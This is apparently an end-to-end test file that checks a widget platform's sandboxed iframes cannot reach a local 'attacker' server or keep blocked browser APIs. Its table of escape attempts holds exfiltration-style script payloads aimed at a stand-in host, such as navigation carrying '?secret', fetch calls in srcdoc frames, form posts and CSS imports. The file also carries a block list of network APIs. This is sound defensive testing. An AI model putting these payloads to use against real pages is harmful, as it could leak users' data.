import { SESSION_HEADER, type companionApi, type WidgetDocument } from '@vivarium/sdk/protocol';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { once } from 'node:events';
import { createServer } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { promisify } from 'node:util';
import type { Browser, Frame, Page } from 'playwright-core';
import { newBrowserKey, send, sendAsPage } from '../../host/companion/companion-testing.js';
import { bundleOwn } from '../../host/companion/frames/bundle.js';
import { families, members, names, navigatorKeeps } from '../../host/frames/lockdown/names.js';
import { openBrowser, openContext, Product } from './product.js';

const root = `${import.meta.dirname}/../..`;
const size = { w: 4, h: 4 };
const document: WidgetDocument = {
  format: 1,
  manifest: { tag: 'made-widget', title: 'Made', description: 'Made by a test.', sizes: { min: size, S: size, M: size, L: size, XL: size, max: size }, uses: {}, config: { type: 'object' }, sample: {} },
  files: {
    'widget.ts': `import { defineWidget, WidgetElement } from '@vivarium/sdk/widget'; import { html } from 'lit'; import { customElement } from 'lit/decorators.js'; import { z } from 'zod';
const size = { w: 4, h: 4 };
export const widget = defineWidget({ tag: 'made-widget', title: 'Made', description: 'Made by a test.', sizes: { min: size, S: size, M: size, L: size, XL: size, max: size }, uses: {}, config: z.object({}), sample: {} });
@customElement(widget.tag) export class Made extends WidgetElement(widget) { override render() { return html\`<p>made</p>\`; } }`,
  },
  entry: 'widget.ts',
};

/** The product with one generated widget, its page open, and a host that counts who reaches it. */
class Bench {
  readonly attacker = createServer((socket) => {
    this.reached += 1;
    socket.destroy();
  });
  reached = 0;
  product?: Product;
  page!: Page;
  private session = {};

  async open(browser: Browser, environment: Record<string, string>): Promise<void> {
    this.attacker.listen(0, '127.0.0.1');
    await once(this.attacker, 'listening');
    this.product = await Product.start({ environment });
    const [origin = '', code] = (await this.product.url()).split('/#code=');
    const { publicKey } = await newBrowserKey();
    const { text } = await sendAsPage(origin, 'POST', '/api/session/pair', { code, publicKey });
    this.session = { [SESSION_HEADER]: (JSON.parse(text) as { token: string }).token };
    await this.ask('PUT /api/documents', { kind: 'widget', id: 'made-widget', version: 0, content: document });
    const { stdout } = await promisify(execFile)(process.execPath, ['bin/vivarium.mjs', 'open', '--data-dir', this.product.dataFolder, '--no-open'], { cwd: root });
    const { context } = await openContext(browser);
    this.page = await context.newPage();
    await this.page.goto(/http:\S+#code=\S+/.exec(stdout)![0]);
    await this.page.locator('viv-agenda').waitFor();
  }

  async ask<Name extends keyof typeof companionApi>(name: Name, body: unknown): Promise<unknown> {
    const [method = '', path = ''] = name.split(' ');
    const { status, text } = await sendAsPage(this.product!.origin, method, path, method === 'GET' ? undefined : body, this.session);
    const value = JSON.parse(text) as unknown;
    if (status !== 200) throw Object.assign(new Error((value as { message: string }).message), value);
    return value;
  }

  /** A frame of the widget in the page, as the shell makes it. */
  async frame(): Promise<Frame> {
    const { url } = (await this.ask('POST /api/frames', { widget: 'made-widget' })) as { url: string };
    await this.page.evaluate(
      (src) =>
        new Promise((done) => {
          globalThis.document.querySelectorAll('iframe').forEach((old) => old.remove());
          const frame = globalThis.document.createElement('iframe');
          frame.setAttribute('sandbox', 'allow-scripts');
          frame.toggleAttribute('credentialless', true);
          frame.addEventListener('load', done, { once: true });
          frame.src = src;
          globalThis.document.body.append(frame);
        }),
      url,
    );
    return this.page.frames().find((one) => one.url() === url)!;
  }

  get away(): string {
    return `127.0.0.1:${(this.attacker.address() as { port: number }).port}`;
  }

  async close(): Promise<void> {
    this.attacker.close();
    await this.product?.remove();
  }
}

let browser: Browser;
before(async () => {
  browser = await openBrowser();
});
after(() => browser.close());

describe('a frame in the page', () => {
  const bench = new Bench();
  before(() => bench.open(browser, {}));
  after(() => bench.close());

  it('loads in a process and origin of its own, with nothing allowed', async () => {
    const frame = await bench.frame();
    assert.match(frame.url(), /^http:\/\/w[0-9a-f]{24}\.localhost:\d+\/w\/[\w-]{32}$/);
    const seen = await frame.evaluate(() => ({
      origin: globalThis.origin,
      isolated: globalThis.crossOriginIsolated,
      features: (globalThis.document as unknown as { featurePolicy: { allowedFeatures(): string[] } }).featurePolicy.allowedFeatures().filter((name) => !name.startsWith('ch-')),
      defined: customElements.get('made-widget') !== undefined,
    }));
    assert.deepEqual(seen, { origin: 'null', isolated: false, features: [], defined: true });
  });

  it('is gone after its one load', async () => {
    const { host, port, pathname } = new URL((await bench.frame()).url());
    assert.equal((await send(`http://127.0.0.1:${port}`, pathname, { headers: { host } })).status, 404);
  });

  /** Each tries one way out; the attacker must not even see a connection. */
  const ways: Record<string, string> = {
    'navigates itself': `location.href = 'http://AWAY/?secret'`,
    'navigates itself by a link': `(() => { const a = document.createElement('a'); a.href = 'http://AWAY/'; document.body.append(a); a.click(); })()`,
    'navigates the page': `(() => { try { top.location.href = 'http://AWAY/'; } catch {} })()`,
    'refreshes itself': `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=http://AWAY/">')`,
    'looks names up and connects ahead': `document.head.insertAdjacentHTML('beforeend', '<link rel="preconnect" href="http://AWAY/"><link rel="dns-prefetch" href="http://AWAY/"><link rel="prefetch" href="http://AWAY/">')`,
    'loads pictures and styles': `(() => { new Image().src = 'http://AWAY/x.png'; document.head.insertAdjacentHTML('beforeend', '<style>@import "http://AWAY/a.css"; body { background: url(http://AWAY/b.png) }</style>'); })()`,
    'embeds frames': `document.body.insertAdjacentHTML('beforeend', '<iframe src="http://AWAY/"></iframe><object data="http://AWAY/"></object><embed src="http://AWAY/">')`,
    'runs script in a fresh realm': `document.body.insertAdjacentHTML('beforeend', \`<iframe srcdoc="<script>fetch('http://AWAY/');new RTCPeerConnection()</script>"></iframe><iframe src="javascript:fetch('http://AWAY/')"></iframe>\`)`,
    'sends a form': `document.body.insertAdjacentHTML('beforeend', '<form action="http://AWAY/"><button>go</button></form>'), document.querySelector('form button').click()`,
    'adds a script': `(() => { const s = document.createElement('script'); s.textContent = 'globalThis.added = 1; location.href = "http://AWAY/"'; document.body.append(s); })()`,
    'opens windows': `(() => { const a = document.createElement('a'); a.href = 'http://AWAY/'; a.target = '_blank'; document.body.append(a); a.click(); a.dispatchEvent(new MouseEvent('click', { ctrlKey: true })); })()`,
  };
  for (const [name, way] of Object.entries(ways))
    it(`reaches nobody when it ${name}`, async () => {
      const frame = await bench.frame();
      const [before, pages] = [bench.reached, bench.page.context().pages().length];
      await frame.evaluate(way.replaceAll('AWAY', bench.away)).catch(() => undefined);
      // A later frame of the same page loads whole, so what the first had begun has come to its end.
      await bench.page.evaluate(() => new Promise((done) => requestIdleCallback(done)));
      const next = await bench.frame();
      assert.equal(await next.evaluate(() => globalThis.document.readyState), 'complete');
      assert.deepEqual([bench.reached - before, bench.page.context().pages().length - pages], [0, 0]);
      assert.equal(new URL(bench.page.url()).origin, bench.product!.origin);
    });

  it('the attacker is reached where nothing holds', async () => {
    const free = await browser.newPage();
    const connected = once(bench.attacker, 'connection');
    await free.evaluate(`void fetch('http://${bench.away}/').catch(() => 0)`);
    await connected;
    await free.close();
  });

  it('has nothing left of what the lockdown names, for good, and what widgets need', async () => {
    const frame = await bench.frame();
    // The compiler of the tests names functions with it.
    await frame.evaluate('globalThis.__name = (named) => named');
    const left = await frame.evaluate(
      ({ globals, pattern, prototypes, keeps }) => {
        const found: string[] = [];
        const gone = (owner: object, name: string, label: string) => {
          const own = Object.getOwnPropertyDescriptor(owner, name);
          if (!own || own.value !== undefined || own.configurable || own.writable) found.push(label);
        };
        const family = new RegExp(pattern);
        for (const name of globals) gone(globalThis, name, name);
        for (const name of Object.getOwnPropertyNames(globalThis)) if (family.test(name)) gone(globalThis, name, name);
        for (const name of Object.getOwnPropertyNames(Navigator.prototype)) if (!keeps.includes(name)) gone(Navigator.prototype, name, `Navigator.${name}`);
        for (const [owner, list] of Object.entries(prototypes)) {
          const constructor = (globalThis as unknown as Record<string, { prototype: object } | undefined>)[owner];
          if (constructor) for (const name of list) gone(constructor.prototype, name, `${owner}.${name}`);
        }
        const realm = (make: () => unknown) => {
          try {
            make();
            return 'made';
          } catch {
            return 'refused';
          }
        };
        return {
          found,
          realms: ['iframe', 'IFRAME', 'x:iframe', 'object', 'embed', 'frame'].map((name) => realm(() => globalThis.document.createElementNS('http://www.w3.org/1999/xhtml', name))),
          byName: realm(() => globalThis.document.createElement('iframe')),
          element: realm(() => globalThis.document.createElement('div')),
        };
      },
      { globals: [...names], pattern: families.source, prototypes: members, keeps: [...navigatorKeeps] },
    );
    assert.deepEqual(left, { found: [], realms: Array<string>(6).fill('refused'), byName: 'refused', element: 'made' });
  });

  it('the lockdown’s names are the browser’s: no family is misspelt', async () => {
    const plain = await browser.newPage();
    await plain.goto(`${bench.product!.origin}/nothing`);
    const all = await plain.evaluate(() => Object.getOwnPropertyNames(globalThis));
    for (const name of ['RTCPeerConnection', 'webkitRTCPeerConnection', 'WebSocket', 'WebSocketStream', 'WebTransport', 'IDBFactory', 'CacheStorage', 'StorageManager', 'FileSystemHandle', 'ServiceWorker', 'CredentialsContainer', 'USBDevice', 'GPUAdapter'])
      if (all.includes(name)) assert.match(name, families);
    for (const name of ['HTMLElement', 'ShadowRoot', 'CSSStyleSheet', 'MessagePort', 'ResizeObserver', 'Intl', 'customElements', 'structuredClone', 'Blob', 'URL']) assert.ok(!families.test(name) && !names.has(name), name);
    await plain.close();
  });
});

describe('what this browser protects', () => {
  for (const [name, environment, expected] of [
    ['with a Connection-Allowlist', {}, { level: 'full', missing: [], site: 'own' }],
    ['without', { VIVARIUM_FRAMES: 'no-allowlist' }, { level: 'reduced', missing: ['connections', 'navigation'], site: 'own' }],
  ] as const)
    it(`is measured ${name}`, async () => {
      const bench = new Bench();
      await bench.open(browser, environment);
      try {
        const code = await bundleOwn(root, 'tests/e2e/protection-page.ts');
        await bench.page.exposeFunction('askCompanion', (endpoint: keyof typeof companionApi, params: Record<string, string>) =>
          bench.ask(endpoint.replace(':probe', params.probe ?? '') as keyof typeof companionApi, params),
        );
        await bench.page.evaluate(code);
        assert.deepEqual(await bench.page.evaluate('measured'), expected);
      } finally {
        await bench.close();
      }
    });
});

describe('links of the page', () => {
  it('open in a tab of their own, with no handle and no referrer, although the page itself may reach nobody', async () => {
    const bench = new Bench();
    try {
      await bench.open(browser, {});
      const source = await bench.page.getByRole('link', { name: 'Gmail', exact: true }).getAttribute('href');
      const [tab] = await Promise.all([bench.page.context().waitForEvent('page'), bench.page.getByRole('link', { name: 'Gmail', exact: true }).click()]);
      await tab.waitForURL((url) => url.origin === new URL(source!).origin);
      assert.deepEqual(await tab.evaluate(() => [globalThis.opener === null, globalThis.document.referrer]), [true, '']);
    } finally {
      await bench.close();
    }
  });
});
